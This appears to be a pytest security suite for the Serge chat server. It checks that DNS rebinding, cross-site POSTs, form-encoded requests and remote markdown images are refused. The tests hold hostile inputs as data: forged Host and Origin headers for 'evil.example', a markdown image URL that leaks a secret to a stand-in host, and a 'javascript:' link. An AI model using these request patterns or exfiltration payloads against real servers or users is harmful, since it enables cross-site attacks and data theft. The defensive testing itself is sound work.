"""A web page the user visits cannot drive Serge: each attack from issue 10, tried on a real server.

The attacker's page runs in the user's browser; these tests send what that browser would
send (its Host, Origin and Sec-Fetch-Site headers, its form encodings) and check that
nothing is read, written or generated.
"""

from __future__ import annotations

import asyncio
import json
import re

import httpx
import pytest
from standin import NAME as MODEL, stand_in
from conftest import ServerThread, server_of_its_own, held_port
from starlette.datastructures import Headers

from serge.settings import Settings
from serge.web.app import build_app
from serge.web.http.guard import HostPolicy
from serge.web.http.headers import SecurityHeaders
from serge.web.pages.markdown import MarkdownRenderer


# On the stand-in model (standin.py): nothing here needs the real one.
settings, engine = stand_in("settings", "engine")


EVIL = "http://evil.example"
HELLO = {"messages": [{"role": "user", "content": "Say hi."}], "max_tokens": 2, "temperature": 0}


server = server_of_its_own()


@pytest.fixture
def http(server):
    with httpx.Client(base_url=server, timeout=120) as client:
        yield client


def chat_ids(http) -> set[str]:
    return {c["id"] for c in http.get("/api/chats").json()["data"]}


def answered_chat(http) -> dict:
    exported = {"chat": {"title": "Victim", "settings": {"max_new_tokens": 4, "temperature": 0}},
                "messages": [{"id": "q", "role": "user", "content": "Name a colour."},
                             {"id": "a", "parent_id": "q", "role": "assistant", "content": "Blue."}]}
    response = http.post("/api/chats/import", json=exported)
    assert response.status_code == 201, response.text
    return response.json()


def generated(engine) -> int:
    """Generations finished so far, however they ended."""
    return engine.metrics.snapshot()[MODEL].requests


def assert_refused(response: httpx.Response, status: int, words: str) -> None:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert words in error["message"] and error["type"] == "invalid_request_error", error


# --- DNS rebinding: a hostile name pointed at 127.0.0.1 --------------------------------------------

def test_a_rebound_host_name_reads_no_chat_writes_none_and_drives_no_model(http, engine, server):
    answered_chat(http)
    before, runs = chat_ids(http), generated(engine)
    rebound = {"Host": "evil.example", "Origin": EVIL}
    assert_refused(http.get("/api/chats", headers=rebound), 421, "SERGE_ALLOWED_HOSTS")
    assert_refused(http.post("/api/chats", json={"title": "planted"}, headers=rebound), 421, "evil.example")
    assert_refused(http.post("/v1/chat/completions", json=HELLO, headers=rebound), 421, "evil.example")
    # with the port, and with no Origin at all (a rebound page's GET sends none)
    port = server.rsplit(":", 1)[1]
    assert_refused(http.get("/api/chats", headers={"Host": f"evil.example:{port}"}), 421, "evil.example")
    assert http.get("/", headers={"Host": "evil.example"}).status_code == 421
    assert chat_ids(http) == before and generated(engine) == runs


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "LOCALHOST."])
def test_the_names_of_this_machine_are_answered(http, server, host):
    port = server.rsplit(":", 1)[1]
    assert http.get("/api/chats", headers={"Host": f"{host}:{port}"}).status_code == 200


def test_a_malformed_host_header_is_a_clear_400(http):
    assert_refused(http.get("/api/chats", headers={"Host": "evil.example/x@127.0.0.1"}), 400, "Host header")


def test_which_hosts_are_served_follows_the_bind_address_and_the_setting():
    def status(policy: HostPolicy, host: str) -> int | None:
        refusal = policy.check("GET", "/api/chats", Headers({"host": host}))
        return refusal.status if refusal else None

    loopback = HostPolicy.of(Settings(host="127.0.0.1"))
    assert status(loopback, "127.0.0.1:8008") is None and status(loopback, "localhost") is None
    assert status(loopback, "192.168.1.5:8008") is None  # an address cannot be rebound
    assert status(loopback, "serge.example") == 421 and status(loopback, "localhost.evil.example") == 421
    named = HostPolicy.of(Settings(host="0.0.0.0", allowed_hosts="serge.example, chat.lan"))
    assert status(named, "serge.example") is None and status(named, "CHAT.LAN:443") is None
    assert status(named, "evil.example") == 421
    assert status(HostPolicy.of(Settings(host="gpu-box")), "gpu-box:8008") is None
    assert status(HostPolicy.of(Settings(allowed_hosts="*")), "anything.example") is None


def test_an_origin_is_the_pages_own_only_with_the_same_host_and_port():
    policy = HostPolicy.of(Settings(allowed_hosts="serge.example"))

    def refused(host: str, origin: str, scheme: str = "http") -> bool:
        return policy.check("POST", "/api/chats", Headers({"host": host, "origin": origin}), scheme) is not None

    assert not refused("127.0.0.1:8008", "http://127.0.0.1:8008")
    assert not refused("[::1]:8008", "http://[::1]:8008")
    assert not refused("serge.example", "https://serge.example", "https")  # default ports on both sides
    assert not refused("serge.example:443", "https://serge.example", "https")
    assert refused("serge.example", "https://serge.example:8443", "https")
    assert refused("127.0.0.1:8008", "http://127.0.0.1:8009")
    assert refused("127.0.0.1:8008", "http://localhost:8008")  # another origin, though the same machine
    assert refused("127.0.0.1:8008", "file://")
    assert refused("127.0.0.1:8008", "http://[::1")  # not an origin at all: refused, not a 500


# --- cross-site writes -------------------------------------------------------------------------------

@pytest.mark.parametrize("origin", [EVIL, "null", "http://localhost:3000", "https://127.0.0.1.evil.example"])
def test_a_post_from_another_origin_is_refused_and_changes_nothing(http, engine, origin):
    chat = answered_chat(http)
    before, runs = chat_ids(http), generated(engine)
    other = {"Origin": origin}
    assert_refused(http.post("/api/chats", json={"title": "planted"}, headers=other), 403, "other sites")
    assert_refused(http.post("/v1/chat/completions", json=HELLO, headers=other), 403, "other sites")
    assert_refused(http.patch(f"/api/chats/{chat['id']}", json={"title": "owned"}, headers=other), 403, "other sites")
    assert_refused(http.delete(f"/api/chats/{chat['id']}", headers=other), 403, "other sites")
    assert chat_ids(http) == before and generated(engine) == runs
    assert http.get(f"/api/chats/{chat['id']}").json()["title"] == "Victim"


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_a_browser_marked_cross_site_write_without_origin_is_refused(http, site):
    before = chat_ids(http)
    assert_refused(http.post("/api/chats", json={}, headers={"Sec-Fetch-Site": site}), 403, site)
    assert chat_ids(http) == before


@pytest.mark.parametrize("encoding", [
    {"data": {"x": "1"}},                                         # application/x-www-form-urlencoded
    {"files": {"f": ("x.txt", b"1")}},                            # multipart/form-data
    {"content": b"x=1", "headers": {"Content-Type": "text/plain"}},
])
def test_a_form_posted_cross_site_to_regenerate_is_refused_and_generates_nothing(http, engine, server, encoding):
    chat = answered_chat(http)
    runs, before = generated(engine), http.get(f"/api/chats/{chat['id']}").json()
    path = f"/api/chats/{chat['id']}/regenerate"
    headers = {**encoding.pop("headers", {}), "Origin": EVIL, "Sec-Fetch-Site": "cross-site"}
    assert_refused(http.post(path, headers=headers, **encoding), 403, "other sites")
    # an old browser that sends neither header still cannot send JSON from a form
    assert_refused(http.post(path, headers={k: v for k, v in headers.items() if k == "Content-Type"}, **encoding),
                   415, "send application/json")
    assert generated(engine) == runs
    assert http.get(f"/api/chats/{chat['id']}").json()["messages"] == before["messages"]


def test_the_pages_own_writes_and_clients_without_origin_still_work(http, server):
    own = http.post("/api/chats", json={"title": "mine"}, headers={"Origin": server, "Sec-Fetch-Site": "same-origin"})
    assert own.status_code == 201, own.text
    stop = http.post(f"/api/chats/{own.json()['id']}/stop", headers={"Origin": server})  # the page's beacon
    assert stop.status_code == 200, stop.text
    assert http.post("/v1/chat/completions", json=HELLO).status_code == 200  # curl, the openai client


def test_cors_is_off_unless_origins_are_configured(http, settings, engine, tmp_path):
    preflight = {"Origin": EVIL, "Access-Control-Request-Method": "POST",
                 "Access-Control-Request-Headers": "content-type"}
    assert "access-control-allow-origin" not in http.options("/v1/chat/completions", headers=preflight).headers

    app_origin = "https://app.example"
    own = Settings(data_dir=tmp_path, models_dir=settings.models_dir, torch_threads=settings.torch_threads,
                   cors_origins=app_origin)
    with ServerThread(build_app(own, engine), held_port()) as running, \
            httpx.Client(base_url=running.url, timeout=120) as configured:
        answer = configured.options("/v1/chat/completions", headers={**preflight, "Origin": app_origin})
        assert answer.headers["access-control-allow-origin"] == app_origin
        reply = configured.post("/v1/chat/completions", json=HELLO, headers={"Origin": app_origin})
        assert reply.status_code == 200 and reply.headers["access-control-allow-origin"] == app_origin
        assert configured.post("/api/chats", json={}, headers={"Origin": EVIL}).status_code == 403


# --- headers on every response -------------------------------------------------------------------------

def test_every_kind_of_response_carries_the_security_headers(http, settings):
    responses = {
        "page": http.get("/"),
        "api": http.get("/api/chats"),
        "static": http.get("/static/app.js"),
        "not found": http.get("/api/chats/nope"),
        "no route": http.get("/nowhere"),
        "too large": http.post("/v1/chat/completions", content=b"x" * (settings.max_request_bytes + 1),
                               headers={"Content-Type": "application/json"}),
        "refused host": http.get("/api/chats", headers={"Host": "evil.example"}),
        "refused origin": http.post("/api/chats", json={}, headers={"Origin": EVIL}),
        "docs": http.get("/docs"),
        "openapi": http.get("/openapi.json"),
    }
    for kind, response in responses.items():
        headers = response.headers
        policy = headers.get("content-security-policy", "")
        assert "script-src 'self'" in policy and "unsafe-inline'" not in policy.split("script-src")[1].split(";")[0], \
            (kind, policy)
        assert "img-src 'self' data:" in policy and "frame-ancestors 'none'" in policy, (kind, policy)
        assert headers.get("x-content-type-options") == "nosniff", kind
        assert headers.get("x-frame-options") == "DENY", kind
        assert headers.get("referrer-policy") == "same-origin", kind


def test_the_page_has_no_inline_script(http):
    html = http.get("/").text
    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.S)
    assert scripts and all("src=" in attrs and not body.strip() for attrs, body in scripts), scripts
    assert not re.search(r"\son[a-z]+=", html), "inline event handlers would need unsafe-inline"


def test_docs_load_their_assets_from_serge_itself(http):
    html = http.get("/docs").text
    assert "cdn" not in html.lower() and not re.search(r"(src|href)=\"(https?:)?//", html), html
    assets = re.findall(r"(?:src|href)=\"(/static/[^\"]+)\"", html)
    assert len(assets) == 3, assets
    for asset in assets:
        response = http.get(asset)
        assert response.status_code == 200 and len(response.content) > 100, asset
    assert not re.search(r"<script>", html), "the docs page starts Swagger UI from a file"


def test_a_markdown_image_in_a_reply_is_a_link_never_a_remote_image():
    html = MarkdownRenderer().render('![the chat](http://evil.example/leak.png?q=secret) '
                                     '![x](javascript:alert(1))\n\n| a |\n|--:|\n| 1 |')
    assert "<img" not in html and "javascript:" not in html.split("![x]")[0]
    assert '<a class="md-image" href="http://evil.example/leak.png?q=secret"' in html
    assert "style=" not in html and 'class="align-right"' in html


def test_an_unexpected_exception_still_answers_json_with_the_headers():
    async def broken(scope, receive, send):
        raise RuntimeError("a bug")

    sent = []

    async def send(message):
        sent.append(message)

    async def receive():
        return {"type": "http.request", "body": b"", "more_body": False}

    with pytest.raises(RuntimeError):  # still raised, so the server logs it
        asyncio.run(SecurityHeaders(broken)({"type": "http", "method": "GET", "path": "/"}, receive, send))
    start, body = sent
    headers = dict(start["headers"])
    assert start["status"] == 500 and headers[b"content-type"] == b"application/json"
    assert b"script-src 'self'" in headers[b"content-security-policy"] and headers[b"x-frame-options"] == b"DENY"
    assert json.loads(body["body"])["error"]["type"] == "server_error"
